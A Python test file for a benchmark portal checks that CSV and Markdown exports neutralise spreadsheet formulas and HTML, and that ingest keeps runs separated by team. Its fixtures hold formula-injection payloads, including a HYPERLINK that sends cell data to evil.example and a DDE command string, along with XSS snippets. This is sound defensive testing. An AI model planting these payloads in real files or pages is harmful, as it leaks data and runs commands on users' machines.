"""Exports are safe to open and paste: CSV text cells cannot run as spreadsheet formulas, Markdown
carries no HTML; ingest never reveals another team's run."""
import pytest

from benchmarks.tables import csv_cell, markdown_table, md_escape
from portal.api.export import levels_csv, levels_markdown
from portal.sweeps.models import Run
from tests.api_support import document, token_client
from tests.factories import stored_run

pytestmark = pytest.mark.usefixtures("fresh_throttles")


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_text_cells_get_a_leading_apostrophe(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(("value", "cell"), [(-1.5, "-1.5"), (-3, "-3"), (0.1, "0.1"), (True, "true"),
                                             (None, ""), ("plain", "plain"), ("a=b", "a=b")])
def test_numbers_and_plain_text_are_unchanged(value, cell):
    assert csv_cell(value) == cell


@pytest.fixture
def hostile_run(target, plan):
    run = stored_run(target=target, plan=plan, duration_s=3)
    run.label = '=HYPERLINK("http://evil.example/?q="&A1,"open")'
    run.target_config = {**run.target_config, "name": "+cmd|' /C calc'!A0", "model": "<img src=x onerror=alert(1)>",
                         "engine_version": "-1"}
    run.plan_config = {**run.plan_config, "name": "@SUM(1+1)*cmd|<b>"}
    run.save()
    return run


def test_run_csv_neutralises_every_text_cell(hostile_run):
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(levels_csv([hostile_run]))))
    assert rows and all(row["run_label"].startswith("'=") for row in rows)
    assert rows[0]["target"].startswith("'+") and rows[0]["plan"].startswith("'@")
    assert rows[0]["engine_version"] == "'-1"
    # Figures stay numbers.
    assert float(rows[0]["qps"]) > 0 and not rows[0]["qps"].startswith("'")


def test_run_markdown_escapes_html_and_table_syntax(hostile_run):
    text = levels_markdown(hostile_run)
    title = text.splitlines()[0]
    assert "<" not in text
    assert "+cmd\\|' /C calc'!A0" in title and "@SUM(1+1)\\*cmd\\|&lt;b&gt;" in title


def test_compare_exports_are_safe(owner, hostile_run, target, plan):
    other = stored_run(target=target, plan=plan, duration_s=3)
    Run.objects.filter(pk=other.pk).update(label="<script>alert(1)</script>")
    api = token_client(owner)
    url = f"/api/v1/compare/?runs={hostile_run.pk},{other.pk}"
    md = api.get(url + "&format=md").content.decode()
    assert "<script>" not in md and "&lt;script&gt;" in md
    csv_text = api.get(url + "&format=csv").content.decode()
    assert all(not cell.startswith(("=", "+", "-", "@")) for line in csv_text.splitlines()
               for cell in line.split(",") if not cell.lstrip("-").replace(".", "", 1).isdigit())


def test_markdown_table_escapes_cells_and_keeps_its_columns():
    lines = markdown_table(["a|b", "<b>"], [["x|y", "`code` *em* [link](http://x)"]], ["left", "right"])
    assert lines[0] == "| a\\|b | &lt;b&gt; |" and lines[1] == "| --- | ---: |"
    assert lines[2] == "| x\\|y | \\`code\\` \\*em\\* \\[link\\](http://x) |"
    assert md_escape("two\nlines") == "two lines"


def test_ingest_never_reveals_another_teams_run(owner, outsider, team, other_team):
    doc = document()
    doc["run"]["uuid"] = "6f1c3a52-0d8e-4a59-9f4c-2c1b7e0a9d11"
    first = token_client(owner).post("/api/v1/ingest/", doc, format="json")
    assert first.status_code == 201
    theirs = token_client(outsider).post("/api/v1/ingest/", doc, format="json")
    # Another team's copy of the same document is a run of its own; nothing names alice's run.
    assert theirs.status_code == 201, theirs.json()
    assert theirs.json()["id"] != first.json()["id"]
    assert f"/runs/{first.json()['id']}/" not in theirs.content.decode()
    assert Run.objects.get(pk=theirs.json()["id"]).team == other_team
    # Within the caller's own teams, the same uuid again is a conflict naming the caller's run.
    again = token_client(outsider).post("/api/v1/ingest/", doc, format="json")
    assert again.status_code == 409 and again.json()["id"] == theirs.json()["id"]
